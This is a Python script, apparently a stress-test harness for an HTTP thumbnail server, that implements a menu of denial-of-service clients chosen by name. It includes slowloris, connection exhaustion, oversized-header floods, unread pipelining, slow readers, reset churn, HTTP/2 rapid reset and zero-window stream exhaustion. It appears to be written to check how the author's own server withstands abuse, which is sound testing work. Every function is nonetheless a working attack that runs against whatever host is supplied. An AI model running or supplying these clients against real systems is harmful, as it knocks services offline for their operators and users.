"""Clients that do a server no good, one kind at a time: abusers.py KIND BASE SECONDS. Prints a line of what became of them."""

import asyncio
import socket
import struct
import sys
import time
from urllib.parse import urlsplit

KIND, BASE, SECONDS = sys.argv[1], urlsplit(sys.argv[2]), float(sys.argv[3])
HOST, PORT = BASE.hostname, BASE.port
END = time.monotonic() + SECONDS
SMALL = "/p/100/thumbnail/entry_id/source/width/320/vid_sec/5"
LARGE = "/p/100/thumbnail/entry_id/source/width/1920/height/1080/format/png/vid_sec/"


def left():
    return END - time.monotonic()


def get(target):
    return f"GET {target} HTTP/1.1\r\nHost: {HOST}:{PORT}\r\n\r\n".encode()


async def opened(receive_buffer=None):
    connection = socket.socket()
    connection.setblocking(False)
    if receive_buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    await asyncio.get_running_loop().sock_connect(connection, (HOST, PORT))
    return connection


def reset(connection):
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.close()


def is_closed(connection):
    try:
        return connection.recv(1 << 16) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


async def several(count, each, at_once=200):
    """Runs each(number) for count numbers, some at once; what fails is counted."""
    gate = asyncio.Semaphore(at_once)

    async def one(number):
        async with gate:
            return await each(number)

    results = await asyncio.gather(*(one(number) for number in range(count)), return_exceptions=True)
    return [result for result in results if not isinstance(result, BaseException)]


async def held(connections):
    """Keeps them until the end, and tells how many of them the server has closed."""
    await asyncio.sleep(max(0, left() - 1))
    closed = sum(map(is_closed, connections))
    print(f"{len(connections)} opened, {closed} closed by the server")


async def slowloris(count=2000):
    connections = await several(count, lambda number: opened())
    text = get(SMALL)[:-2] + b"X-Slow: " + b"a" * 1000
    position, closed = 0, 0
    alive = list(connections)
    while left() > 1:
        begun = time.monotonic()
        for connection in list(alive):
            try:
                connection.send(text[position : position + 1])
            except OSError:
                alive.remove(connection)
        position += 1
        await asyncio.sleep(max(0, 0.5 - (time.monotonic() - begun)))
    closed = len(connections) - len(alive) + sum(map(is_closed, alive))
    print(f"{len(connections)} opened, a byte each 0.5 s; {closed} closed by the server")


async def idle(count=10000):
    await held(await several(count, lambda number: opened()))


async def keepalive(count=10000):
    async def after_one(number):
        connection = await opened()
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(connection, get("/health/live"))
        await loop.sock_recv(connection, 1 << 16)
        return connection

    await held(await several(count, after_one))


async def repeated(rate, each):
    """Runs each(number) at a constant rate until the end; results are counted."""
    results = {}
    tasks = []

    async def one(number):
        try:
            result = await asyncio.wait_for(each(number), 10)
        except (OSError, asyncio.TimeoutError) as fault:
            result = type(fault).__name__
        results[result] = results.get(result, 0) + 1

    begun = time.monotonic()
    number = 0
    while left() > 1:
        tasks.append(asyncio.create_task(one(number)))
        number += 1
        await asyncio.sleep(max(0, begun + number / rate - time.monotonic()))
    await asyncio.gather(*tasks)
    print(", ".join(f"{count} x {result}" for result, count in sorted(results.items(), key=str)))


async def status_of(connection):
    answer = await asyncio.get_running_loop().sock_recv(connection, 1 << 16)
    return answer.split(b"\r\n")[0].decode("latin-1") if answer else "closed"


async def huge():
    async def one(number):
        connection = await opened()
        text = (
            b"GET /" + b"a" * (1 << 20)
            if number % 3 == 0
            else b"GET / HTTP/1.1\r\nX-Large: " + b"a" * (1 << 20)
            if number % 3 == 1
            else b"GET / HTTP/1.1\r\n" + b"X-Many: a\r\n" * 100000
        )
        try:
            connection.send(text)
            await asyncio.sleep(0.05)
            return await status_of(connection)
        finally:
            connection.close()

    await repeated(100, one)


async def pipelining(connections=4, requests=500, rate=4):
    """Each connection asks for 500 hits at once, four times a second, and reads the answers."""
    answered = 0

    async def one(number):
        nonlocal answered
        reader, writer = await asyncio.open_connection(HOST, PORT)
        try:
            while left() > 1:
                begun = time.monotonic()
                writer.write(get(SMALL) * requests)
                for _ in range(requests):
                    head = await reader.readuntil(b"\r\n\r\n")
                    length = int(head.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
                    await reader.readexactly(length)
                    answered += 1
                await asyncio.sleep(max(0, 1 / rate - (time.monotonic() - begun)))
        finally:
            writer.close()

    await several(connections, one)
    print(f"{answered} answered in order")


async def unread(count=200, requests=2000):
    """Asks for 2,000 hits at once and reads none of the answers."""

    async def one(number):
        connection = await opened(4096)
        data = get(SMALL) * requests
        try:
            sent = connection.send(data)
            await asyncio.sleep(0.1)
            connection.send(data[sent:])
        except BlockingIOError:
            pass
        return connection

    await held(await several(count, one))


async def aborted():
    async def one(number):
        connection = await opened(4096)
        loop = asyncio.get_running_loop()
        await loop.sock_sendall(connection, get(LARGE + str(number % 4)))
        answer = await loop.sock_recv(connection, 1024)
        reset(connection)
        return "begun and broken off" if answer.startswith(b"HTTP/1.1 200") else answer[:12].decode("latin-1")

    await repeated(40, one)


async def abandoned():
    """Asks for pictures that nobody has made, and leaves before they are there."""

    async def one(number):
        connection = await opened()
        await asyncio.get_running_loop().sock_sendall(connection, get(f"/p/100/thumbnail/entry_id/source/width/{200 + number}/vid_sec/7"))
        await asyncio.sleep(0.02)
        reset(connection)
        return "left"

    await repeated(50, one)


async def slowreaders(count=100):
    async def one(number):
        connection = await opened(4096)
        await asyncio.get_running_loop().sock_sendall(connection, get(LARGE + str(number % 4)))
        return connection

    connections = await several(count, one)
    statuses = {}
    alive = dict.fromkeys(connections)
    while left() > 1:
        begun = time.monotonic()
        for connection in list(alive):
            try:
                data = connection.recv(256)
                if alive[connection] is None:
                    alive[connection] = data[9:12].decode("latin-1")
                    statuses[alive[connection]] = statuses.get(alive[connection], 0) + 1
                if not data:
                    del alive[connection]
            except BlockingIOError:
                pass
            except OSError:
                del alive[connection]
        await asyncio.sleep(max(0, 0.25 - (time.monotonic() - begun)))
    print(f"{len(connections)} opened, 1 KiB/s each; answers {statuses}; {len(connections) - len(alive)} ended")


async def halfopen(count=500):
    """Asks for a hit or for a large picture and is never heard of again."""

    async def one(number):
        connection = await opened(4096)
        target = SMALL if number % 10 else LARGE + str(number % 4)
        await asyncio.get_running_loop().sock_sendall(connection, get(target))
        return connection

    connections = await several(count, one)
    await asyncio.sleep(max(0, left() - 1))
    print(f"{len(connections)} opened, none read")


async def churn(rate=300):
    async def one(number):
        connection = await opened()
        await asyncio.get_running_loop().sock_sendall(connection, get(SMALL))
        status = await status_of(connection)
        if number % 2:
            reset(connection)
        else:
            connection.close()
        return status

    await repeated(rate, one)


# HTTP/2 by hand: frames as of RFC 9113, fields as literals without an index (RFC 7541)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def headers(stream, target):
    path, host = target.encode(), f"{HOST}:{PORT}".encode()
    block = b"\x82\x86" + b"\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(host)]) + host
    return frame(1, 0x5, stream, block)


def settings(window=None):
    return PREFACE + frame(4, 0, 0, b"" if window is None else struct.pack(">HI", 4, window)) + frame(4, 1, 0)


async def h2_opened(window=None):
    reader, writer = await asyncio.open_connection(HOST, PORT)
    writer.write(settings(window))
    return reader, writer


async def rapidreset(connections=4):
    """Opens streams and resets them at once, 1,000 a second on each connection; comes back when it is thrown out."""
    resets, refused = 0, 0

    async def one(number):
        nonlocal resets, refused
        while left() > 1:
            reader, writer = await h2_opened()
            stream = 1
            try:
                # the first is answered when the client has shown that it speaks HTTP/2
                writer.write(headers(stream, SMALL))
                while left() > 1:
                    data = b""
                    for _ in range(50):
                        stream += 2
                        target = f"/p/100/thumbnail/entry_id/source/width/{300 + stream % 5000}/vid_sec/3"
                        data += headers(stream, target) + frame(3, 0, stream, struct.pack(">I", 8))
                        resets += 1
                    writer.write(data)
                    await writer.drain()
                    await asyncio.sleep(0.05)
                    if reader.at_eof():
                        raise ConnectionResetError
            except OSError:
                refused += 1
                await asyncio.sleep(0.1)
            finally:
                writer.close()

    await several(connections, one)
    print(f"{resets} streams reset; the connection was ended {refused} times")


async def streams(connections=20, count=1000):
    """1,000 streams on each connection whose windows are shut, kept alive by PINGs."""
    refused = 0

    async def one(number):
        nonlocal refused
        reader, writer = await h2_opened(0)
        writer.write(headers(1, SMALL))
        await asyncio.sleep(0.2)
        for stream in range(3, 2 * count, 2):
            writer.write(headers(stream, SMALL))

        async def read():
            nonlocal refused
            while True:
                head = await reader.readexactly(9)
                payload = await reader.readexactly(int.from_bytes(head[:3], "big"))
                if head[3] == 3:
                    refused += 1
                elif head[3] == 6 and not head[4] & 1:
                    writer.write(frame(6, 1, 0, payload))

        reading = asyncio.create_task(read())
        try:
            while left() > 1 and not reading.done():
                await asyncio.sleep(0.5)
                writer.write(frame(6, 0, 0, b"stillon?"))
            return not reading.done()
        finally:
            reading.cancel()
            writer.close()

    open_still = await several(connections, one)
    print(f"{sum(open_still)} of {connections} connections open still, {refused} of {connections * count} streams refused")


async def h2slow(count=500):
    """A frame with fields that comes byte by byte."""

    async def one(number):
        connection = await opened()
        connection.send(settings() + headers(1, SMALL)[:12])
        return connection

    connections = await several(count, one)
    text = headers(1, SMALL)[12:]
    position = 0
    alive = list(connections)
    while left() > 1:
        for connection in list(alive):
            try:
                connection.send(text[position : position + 1])
            except OSError:
                alive.remove(connection)
        position = min(position + 1, len(text) - 2)
        await asyncio.sleep(0.5)
    closed = len(connections) - len(alive)
    print(f"{len(connections)} opened, {closed} closed by the server")


asyncio.run(globals()[KIND]())
